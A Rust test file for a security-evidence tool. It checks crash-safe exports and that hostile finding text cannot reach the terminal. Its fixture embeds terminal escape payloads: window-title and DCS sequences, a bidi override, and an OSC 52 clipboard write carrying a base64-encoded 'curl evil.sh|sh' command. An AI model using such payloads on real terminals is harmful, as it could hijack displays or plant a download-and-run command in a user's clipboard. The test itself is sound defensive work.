//! What rampart writes survives `kill -9` at any moment, and hostile text never reaches the
//! terminal as control sequences.
//!
//! - An export is killed mid-write again and again: the file is always the old complete
//!   document or the new complete one, never torn (temporary file, fsync, rename).
//! - Evidence whose titles and fields carry window-title, clipboard and DCS sequences is
//!   shown by the real binary in a pseudo-terminal: none of those sequences reach it.

mod support;

use std::process::{Command, Stdio};
use support::{isolated_env, PtyRun, BIN};

const NOW: &str = "2026-11-22T12:00:00Z";

fn export(home: &std::path::Path, seed: u64, out: &std::path::Path) -> std::process::Child {
    let mut cmd = Command::new(BIN);
    cmd.env_clear()
        .envs(isolated_env(home))
        .args(["export", "--demo", "--now", NOW, "--demo-scale", "5000"])
        .args(["--seed", &seed.to_string(), "--output"])
        .arg(out)
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    cmd.spawn().unwrap()
}

/// The document is whole: it parses, and its last dataset (`sources`) is there.
fn whole(bytes: &[u8]) -> bool {
    serde_json::from_slice::<serde_json::Value>(bytes)
        .map(|v| v.get("sources").is_some_and(|s| s.is_array()))
        .unwrap_or(false)
}

#[test]
fn an_export_killed_mid_write_leaves_the_old_file_or_the_new_one() {
    let home = tempfile::tempdir().unwrap();
    let out = home.path().join("evidence.json");
    let t = std::time::Instant::now();
    assert!(export(home.path(), 1, &out).wait().unwrap().success());
    let took = t.elapsed();
    let first = std::fs::read(&out).unwrap();
    assert!(whole(&first));
    let mut kept_old = 0;
    let mut replaced = 0;
    for i in 0..12u64 {
        let before = std::fs::read(&out).unwrap();
        let mut child = export(home.path(), 2 + i % 2, &out);
        // Spread the kills over the run: early, mid-write, around the rename, after it.
        std::thread::sleep(took.mul_f64(0.1 + 1.3 * i as f64 / 12.0));
        let _ = child.kill();
        let _ = child.wait();
        let after = std::fs::read(&out).unwrap();
        assert!(
            whole(&after),
            "kill {i} left a torn export ({} bytes)",
            after.len()
        );
        if after == before {
            kept_old += 1;
        } else {
            replaced += 1;
        }
    }
    eprintln!("12 kills: {kept_old} left the old export, {replaced} the new one");
    assert!(kept_old > 0, "some kills came before the rename");
    assert!(replaced > 0, "some runs finished their write");
}

#[test]
fn hostile_evidence_never_writes_the_window_title_or_the_clipboard() {
    let home = tempfile::tempdir().unwrap();
    let evil = "\u{1b}]0;pwned-title\u{7}\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}P+q\u{1b}\\\u{9b}31m\u{202e}";
    let finding = serde_json::json!({
        "SchemaVersion": "2018-10-08", "Id": format!("evil-{evil}"),
        "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/securityhub",
        "GeneratorId": evil, "AwsAccountId": "111122223333", "Types": [evil],
        "CreatedAt": "2026-11-01T00:00:00Z", "UpdatedAt": "2026-11-20T00:00:00Z",
        "Severity": {"Label": "CRITICAL"}, "Title": format!("title {evil} end"),
        "Description": format!("{evil}\n{}", "x".repeat(200_000)), "Region": "us-east-1",
        "Resources": [{"Type": evil, "Id": format!("arn:aws:s3:::{evil}"), "Tags": {evil: evil}}],
        "Workflow": {"Status": "NEW"}, "RecordState": "ACTIVE"
    });
    let file = home.path().join("evil.json");
    std::fs::write(
        &file,
        serde_json::json!({"Findings": [finding]}).to_string(),
    )
    .unwrap();
    let mut run = PtyRun::start(
        &["--replay", file.to_str().unwrap(), "--now", NOW],
        home.path(),
        (100, 30),
    );
    run.wait_for_screen("CRIT 1");
    run.send("1");
    run.wait_for_screen("title");
    run.send("\r");
    run.wait_for_screen("Severity");
    run.send("t");
    run.send("\u{1b}");
    run.send("\u{1b}");
    run.send("q");
    assert_eq!(run.wait_exit(), 0);
    let out = run.output();
    let find = |needle: &[u8]| out.windows(needle.len()).any(|w| w == needle);
    assert!(!find(b"\x1b]0;"), "window title written");
    assert!(!find(b"\x1b]2;"), "window title written");
    assert!(!find(b"\x1b]52;"), "clipboard written");
    assert!(!find(b"\x1bP"), "a DCS sequence reached the terminal");
    assert!(
        !find("\u{202e}".as_bytes()),
        "a bidi override reached the terminal"
    );
    assert!(!find(b"pwned-title\x07"));
}
